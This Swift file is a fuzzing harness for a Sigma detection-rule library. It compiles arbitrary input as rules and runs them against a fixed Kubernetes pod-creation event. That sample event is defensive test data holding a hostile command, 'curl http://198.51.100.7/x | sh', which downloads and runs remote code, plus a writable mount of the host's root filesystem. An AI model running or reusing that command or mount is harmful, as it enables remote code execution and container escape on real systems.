import Deployments
import Judge
import Sigma

/// The Sigma language: any text is rules or diagnostics with places; rules that are read compile or say why not, and
/// then match without harm.
enum SigmaFuzzing {
    private static let deployment: ContainerDeployment = {
        var deployment = ContainerDeployment(
            event: .init(action: .podCreate, dataset: .kubernetesAudit),
            route: .kubernetesAPI
        )
        deployment.actor.userName = "alice"
        deployment.process.args = ["sh", "-c", "curl http://198.51.100.7/x | sh"]
        deployment.host.mounts = [.init(source: HostPath("/"), target: "/host", isReadOnly: false)]
        return deployment
    }()

    static func run(_ bytes: UnsafeRawBufferPointer) {
        var library = RuleLibrary()
        library.add(String(decoding: bytes, as: UTF8.self), file: "fuzz.yml")
        for diagnostic in library.diagnostics { precondition(!diagnostic.description.isEmpty) }
        do throws(RuleSetError) {
            let judge = Judge(try Judge.Bench(library))
            judge.judge(deployment) { finding in precondition(!finding.id.isEmpty) }
        } catch {
            precondition(!"\(error)".isEmpty)
        }
    }
}
